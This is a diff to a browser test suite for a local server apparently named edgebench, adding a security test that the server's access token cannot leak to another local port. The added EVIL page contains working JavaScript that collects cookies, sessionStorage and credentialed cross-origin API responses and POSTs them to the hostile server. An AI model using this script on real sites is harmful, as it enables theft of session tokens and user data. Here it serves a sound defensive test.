@@ -4,14 +4,16 @@ from __future__ import annotations
 
 import json
 import re
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import pytest
 from browsing import Page
 from made_sweep import Shape, make
-from serving import Served, serving, wait_for
+from serving import TOKEN, Served, serving, wait_for
 
 pytestmark = pytest.mark.browser
 
@@ -215,19 +217,86 @@ def test_two_browsers_and_a_reload_see_the_same(browser: Any, with_results: Serv
 
 
 def test_the_token_lets_a_browser_in_once(browser: Any, tmp_path: Path):
-    """Without it, how to get in; with it, the page; who loses it while watching is told so."""
+    """Without it, how to get in; with it, the page; who loses it while watching is told so.
+
+    A new address opened in the same tab takes the place of the old token.
+    """
     with serving(tmp_path) as served:
         page = Page(browser, served.address)
         browser.get(served.address)
-        assert "Open the address that edgebench serve printed" in page.text("body")
+        assert "Open the address that edgebench serve printed" in page.words("#no-token")
         page.shoot("token")
         page.open("new")
-        page.find("nav")
+        page.find("#new h2")
         assert browser.current_url == f"{served.address}/#new"
-        assert browser.execute_script("return document.cookie") == ""
-        page.driver.get(f"{served.address}/")
+        browser.get(f"{served.address}/")
         wait_for(lambda: page.text("#status") == "Connected.")
-        browser.delete_all_cookies()
+        browser.execute_script("sessionStorage.setItem('token', 'old')")
         served.live.close()
-        wait_for(lambda: "new token" in page.text("#status"))
-        assert len(page.faults()) >= 2
+        assert "After a restart the server has a new token" in page.words("#no-token")
+        browser.get(f"{served.address}/#token={TOKEN}")
+        wait_for(lambda: page.text("#status") == "Connected.")
+        page.find("#answer h2")
+        assert page.faults()
+
+
+EVIL = """<!doctype html><title>evil</title><script>
+const tell = (words) => fetch("/told", { method: "POST", body: String(words) });
+async function steal(address) {
+  tell(document.cookie + JSON.stringify(sessionStorage) + location + document.referrer);
+  for (const path of ["/", "/api/sweeps", "/api/live"]) for (const mode of ["cors", "no-cors"]) {
+    const options = { credentials: "include", mode };
+    await fetch(address + path, options).then((r) => r.text()).then(tell, tell);
+  }
+  const opened = window.open(address);
+  const frame = document.body.appendChild(document.createElement("iframe"));
+  frame.src = address;
+  await new Promise((done) => setTimeout(done, 1000));
+  for (const other of [opened, frame.contentWindow])
+    try { tell(other.sessionStorage.getItem("token")); } catch (error) { tell(error); }
+  await tell("all tried");
+}
+</script><body>"""
+
+
+@pytest.mark.promise("Another user's server on another port of this machine gets no token.")
+def test_a_server_on_another_port_gets_no_token(browser: Any, tmp_path: Path):
+    """A link to it is followed from the page; it has what the browser sent and its script finds."""
+    got: list[str] = []
+
+    class Evil(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            got.append(f"{self.path} {self.headers}")
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(EVIL.encode())
+
+        def do_POST(self) -> None:
+            body = self.rfile.read(int(self.headers["Content-Length"]))
+            got.append(f"{self.headers} {body.decode()}")
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *words: object) -> None:
+            pass
+
+    with serving(tmp_path) as served, ThreadingHTTPServer(("127.0.0.1", 0), Evil) as evil:
+        threading.Thread(target=evil.serve_forever).start()
+        page, kept = Page(browser, served.address), browser.current_window_handle
+        try:
+            page.open()
+            wait_for(lambda: page.text("#status") == "Connected.")
+            assert browser.get_cookies() == []
+            link = "const a = document.createElement('a'); a.href = arguments[0]; a.click()"
+            browser.execute_script(link, f"http://127.0.0.1:{evil.server_port}/")
+            wait_for(lambda: browser.title == "evil")
+            browser.execute_script("steal(arguments[0])", served.address)
+            wait_for(lambda: any("all tried" in words for words in got))
+            assert not any(TOKEN in words or "Cookie" in words for words in got)
+        finally:
+            for window in set(browser.window_handles) - {kept}:
+                browser.switch_to.window(window)
+                browser.close()
+            browser.switch_to.window(kept)
+            evil.shutdown()
